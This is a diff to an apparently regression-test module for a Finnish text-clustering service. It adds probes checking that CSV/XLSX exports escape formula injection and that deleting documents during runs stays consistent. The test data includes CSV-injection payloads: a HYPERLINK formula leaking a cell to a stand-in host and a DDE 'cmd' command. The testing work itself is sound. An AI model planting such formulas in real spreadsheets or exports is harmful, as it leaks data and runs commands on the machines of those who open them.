@@ -4,7 +4,8 @@ the fixed behaviour.
 
 One function per item of the issue, ``probe_<what>(service)``, listed in ``PROBES`` by
 item number; each uses projects of its own, so they run in any order on one server. To
-add an item, write its function and list it.
+add an item, write its function and list it. Item 4 (the UI signed anyone in as
+administrator) needs a browser: ``tests/e2e/test_sign_in.py`` replays it.
 """
 
 from __future__ import annotations
@@ -200,12 +201,82 @@ def probe_second_instance(service: Service) -> None:
     assert job["state"] == "succeeded" and job["error"] is None, job
 
 
+FORMULAS = (
+    '=HYPERLINK("http://x.example/?leak="&A1,"click") avaa linkki tästä heti',
+    "=cmd|' /C calc'!A0 ja muuta tekstiä perään",
+    "+358 on Suomen maakoodi puhelinnumeroissa",
+    "-10 % väheneminen työvoimassa Kainuussa",
+    "@kaikki osallistujat mukaan tapaamiseen",
+    "\t=1+1 sarkaimen jälkeen kaava",
+)
+
+
+def probe_formula_injection(service: Service) -> None:
+    """3: notes, file names and theme names starting with = + - @ (or a tab then one)
+    became live formulas in the XLSX and CSV exports."""
+    import csv
+    import io
+    import zipfile
+
+    service.project("kaava")
+    lines = (SHARED_DATA / "omastadi_proposals.jsonl").read_text().splitlines()[:12]
+    texts = [*FORMULAS, *(json.loads(line)["text"] for line in lines)]
+    answer = service.upload("kaava", "=cmd.csv", csv_upload(texts), True)
+    assert answer.status_code == 201, answer.text
+    run = service.admin.post("/projects/kaava/runs?wait=true", json={})
+    assert service.admin.get(f"/jobs/{run.json()['job_id']}").json()["state"] == "succeeded"
+    theme = service.admin.get("/projects/kaava/themes").json()["themes"][0]
+    renamed = service.admin.patch(f"/projects/kaava/themes/{theme['id']}", json={"name": "=1+1"})
+    assert renamed.status_code == 200, renamed.text
+    exported = service.admin.get("/projects/kaava/export?format=csv")
+    assert exported.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(exported.text)) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=1+1" in cells and any(c.startswith("'=HYPERLINK(") for c in cells)
+    xlsx = service.admin.get("/projects/kaava/export?format=xlsx")
+    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+
+
+def probe_document_deleted_around_runs(service: Service) -> None:
+    """8: deleting a document while a run fitted lost the run (IntegrityError), and
+    deleting one without a run left theme sizes and the run's note count stale."""
+    service.project("poisto")
+    lines = (SHARED_DATA / "omastadi_proposals.jsonl").read_text().splitlines()
+    for i in range(3):
+        texts = [json.loads(line)["text"] for line in lines[40 * i : 40 * i + 40]]
+        answer = service.upload("poisto", f"osa{i}.csv", csv_upload(texts), True)
+        assert answer.status_code == 201, answer.text
+    listed = service.admin.get("/projects/poisto/documents").json()
+    documents = [d["id"] for d in sorted(listed, key=lambda d: d["filename"])]
+    run = service.admin.post("/projects/poisto/runs?wait=true", json={}).json()["job_id"]
+    assert service.admin.get(f"/jobs/{run}").json()["state"] == "succeeded"
+
+    def consistent() -> None:
+        table = service.admin.get("/projects/poisto/themes").json()
+        total = service.admin.get("/projects/poisto/notes?limit=1").json()["total"]
+        assert sum(t["size"] for t in table["themes"]) + table["unassigned"] == total
+        assert table["run"]["note_count"] == total
+
+    assert service.admin.delete(f"/projects/poisto/documents/{documents[0]}").status_code == 204
+    consistent()
+    started = service.admin.post("/projects/poisto/runs", json={}).json()["job_id"]
+    service.job_until(started, lambda job: job["state"] != "queued")
+    assert service.admin.delete(f"/projects/poisto/documents/{documents[1]}").status_code == 204
+    job = service.job_until(started, ended)
+    assert job["state"] == "succeeded", job
+    consistent()
+
+
 PROBES: dict[int, Callable[[Service], None]] = {
     1: probe_deleted_project_data,
     2: probe_job_dies_with_its_project,
+    3: probe_formula_injection,
     5: probe_huge_note,
     6: probe_waiting_requests,
     7: probe_second_instance,
+    8: probe_document_deleted_around_runs,
 }
 
 
